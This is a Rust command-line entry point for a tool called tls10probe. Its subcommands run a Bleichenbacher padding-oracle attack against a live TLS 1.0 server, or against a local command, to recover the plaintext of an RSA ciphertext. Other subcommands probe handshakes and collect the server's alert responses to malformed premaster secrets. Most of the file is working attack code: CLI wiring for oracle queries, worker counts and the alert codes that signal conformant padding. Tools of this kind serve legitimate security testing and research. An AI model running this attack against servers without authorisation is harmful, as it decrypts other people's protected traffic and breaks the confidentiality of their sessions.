use clap::{Args, Parser, Subcommand};
use log::{error, info};
use num_bigint::BigUint;
use std::sync::Arc;
use std::time::Duration;
use tls10probe::alert::AlertDescription;
use tls10probe::bleichenbacher::Bleichenbacher;
use tls10probe::certificate;
use tls10probe::config::{AttackConfig, SessionConfig};
use tls10probe::display::{from_hex, to_hex};
use tls10probe::error::Error;
use tls10probe::fingerprint::HandshakeEnumCheck;
use tls10probe::network_oracle::{self, AlertClassifier, NetworkOracle, TcpConnector};
use tls10probe::oracle::{CommandOracle, Oracle};
use tls10probe::report::LogReporter;
use tls10probe::rsa::RsaPublicKey;
use tls10probe::transport::TcpTransport;
use tls10probe::workflow::Workflow;

/// TLS 1.0 handshake prober and Bleichenbacher padding-oracle attack.
#[derive(Parser)]
#[command(name = "tls10probe")]
#[command(version, about, long_about = None)]
struct Cli {
    #[command(subcommand)]
    command: Commands,
}

#[derive(Args)]
struct Target {
    /// Server as host:port.
    #[arg(long)]
    host: String,
    /// Read timeout per record in milliseconds.
    #[arg(long, default_value_t = 2000)]
    timeout_ms: u64,
}

impl Target {
    fn connector(&self) -> Result<TcpConnector, Error> {
        session_target(&self.host, self.timeout_ms)
    }

    fn session(&self) -> Result<SessionConfig, Error> {
        session_config(&self.host, self.timeout_ms)
    }
}

#[derive(Subcommand)]
enum Commands {
    /// Recover the plaintext of an RSA ciphertext through a padding oracle.
    Attack {
        /// Use a TLS server as the oracle.
        #[arg(long, conflicts_with = "command")]
        host: Option<String>,
        /// Use a command as the oracle; the base64 ciphertext is appended.
        #[arg(long, requires = "modulus")]
        command: Option<String>,
        /// RSA modulus in hex, for --command.
        #[arg(long)]
        modulus: Option<String>,
        /// RSA public exponent in hex.
        #[arg(long, default_value = "10001")]
        exponent: String,
        /// Ciphertext to decrypt, in hex.
        #[arg(long)]
        ciphertext: String,
        /// Parallel oracle queries.
        #[arg(long, default_value_t = 1)]
        workers: usize,
        #[arg(long, default_value_t = 2000)]
        timeout_ms: u64,
        /// Abort after this many oracle queries.
        #[arg(long)]
        max_queries: Option<u64>,
        /// Alert description codes that mean conformant padding.
        #[arg(long = "conformant-alert", default_values_t = [80u8])]
        conformant_alerts: Vec<u8>,
    },
    /// Run one handshake and print the message trace.
    Handshake {
        #[command(flatten)]
        target: Target,
    },
    /// Send malformed premaster secrets and report how the server answers.
    Train {
        #[command(flatten)]
        target: Target,
        #[arg(long, default_value_t = 20)]
        iterations: usize,
    },
}

fn session_target(host: &str, timeout_ms: u64) -> Result<TcpConnector, Error> {
    if !host.contains(':') {
        return Err(Error::Config(format!("expected host:port, got '{host}'")));
    }
    Ok(TcpConnector {
        target: host.to_string(),
        timeout: Duration::from_millis(timeout_ms),
    })
}

fn session_config(host: &str, timeout_ms: u64) -> Result<SessionConfig, Error> {
    let hostname = host
        .rsplit_once(':')
        .map(|(hostname, _)| hostname.trim_start_matches('[').trim_end_matches(']'))
        .ok_or_else(|| Error::Config(format!("expected host:port, got '{host}'")))?;
    let config = SessionConfig {
        read_timeout: Duration::from_millis(timeout_ms),
        ..SessionConfig::default()
    }
    .with_server_name(hostname);
    config.validate()?;
    Ok(config)
}

fn parse_hex(name: &str, value: &str) -> Result<Vec<u8>, Error> {
    from_hex(value).map_err(|e| Error::Config(format!("--{name}: {e}")))
}

fn run_attack(oracle: &dyn Oracle, config: AttackConfig, ciphertext: &[u8]) -> Result<(), Error> {
    let result = Bleichenbacher::new(oracle, config)
        .with_reporter(Arc::new(LogReporter))
        .run(ciphertext)?;
    info!(
        "Attack finished after {} iterations, {} queries",
        result.iterations, result.queries
    );
    println!("{}", to_hex(&result.plaintext));
    Ok(())
}

#[allow(clippy::too_many_arguments)]
fn attack(
    host: Option<String>,
    command: Option<String>,
    modulus: Option<String>,
    exponent: &str,
    ciphertext: &str,
    config: AttackConfig,
    timeout_ms: u64,
    conformant_alerts: &[u8],
) -> Result<(), Error> {
    config.validate()?;
    let ciphertext = parse_hex("ciphertext", ciphertext)?;
    match (host, command) {
        (Some(host), None) => {
            let connector = session_target(&host, timeout_ms)?;
            let session = session_config(&host, timeout_ms)?;
            let public_key = network_oracle::fetch_public_key(&connector, &session)?;
            info!("Server key has a {}-byte modulus", public_key.size());
            let alerts = conformant_alerts
                .iter()
                .map(|code| {
                    AlertDescription::try_from(*code)
                        .map_err(|e| Error::Config(format!("--conformant-alert {code}: {e}")))
                })
                .collect::<Result<Vec<_>, _>>()?;
            let oracle = NetworkOracle::new(connector, session, public_key).with_classifier(AlertClassifier::new(alerts));
            run_attack(&oracle, config, &ciphertext)
        }
        (None, Some(command)) => {
            let modulus = modulus.ok_or_else(|| Error::Config("--command needs --modulus".into()))?;
            let public_key = RsaPublicKey::new(
                BigUint::from_bytes_be(&parse_hex("modulus", &modulus)?),
                BigUint::from_bytes_be(&parse_hex("exponent", exponent)?),
            );
            let oracle = CommandOracle::new(&command, public_key)?;
            run_attack(&oracle, config, &ciphertext)
        }
        _ => Err(Error::Config("exactly one of --host and --command is required".into())),
    }
}

fn handshake(target: &Target) -> Result<(), Error> {
    let transport = TcpTransport::connect(target.host.as_str(), Duration::from_millis(target.timeout_ms))?;
    info!("Successfully connected to the server '{}'.", target.host);
    let mut workflow = Workflow::new(transport, target.session()?);
    let outcome = workflow.run();
    println!("{}", workflow.trace().dump());
    if let Ok(cert) = workflow.security_parameters().server_certificate() {
        certificate::log_certificate(cert);
        println!("Certificate SHA-256: {}", certificate::fingerprint(cert));
    }
    let scores = HandshakeEnumCheck::default().analyze(workflow.trace());
    scores.report(&LogReporter);
    println!(
        "Handshake enumeration: {}",
        if HandshakeEnumCheck::enumerates(workflow.trace()) {
            "yes"
        } else {
            "no"
        }
    );
    outcome?.into_result()
}

fn train(target: &Target, iterations: usize) -> Result<(), Error> {
    let connector = target.connector()?;
    let session = target.session()?;
    let public_key = network_oracle::fetch_public_key(&connector, &session)?;
    let histogram = network_oracle::alert_histogram(&connector, &session, &public_key, iterations, &mut rand::rng())?;
    for ((block, answer), count) in histogram {
        println!("{block:?}: {answer} x{count}");
    }
    Ok(())
}

fn main() {
    // Level from RUST_LOG, e.g. RUST_LOG=debug
    env_logger::builder().format_timestamp(None).init();
    let cli = match Cli::try_parse() {
        Ok(cli) => cli,
        Err(e) => {
            let code = if e.use_stderr() { 1 } else { 0 };
            let _ = e.print();
            std::process::exit(code);
        }
    };
    let result = match cli.command {
        Commands::Attack {
            host,
            command,
            modulus,
            exponent,
            ciphertext,
            workers,
            timeout_ms,
            max_queries,
            conformant_alerts,
        } => attack(
            host,
            command,
            modulus,
            &exponent,
            &ciphertext,
            AttackConfig { workers, max_queries },
            timeout_ms,
            &conformant_alerts,
        ),
        Commands::Handshake { target } => handshake(&target),
        Commands::Train { target, iterations } => train(&target, iterations),
    };
    if let Err(e) = result {
        error!("{e}");
        std::process::exit(e.exit_code());
    }
}
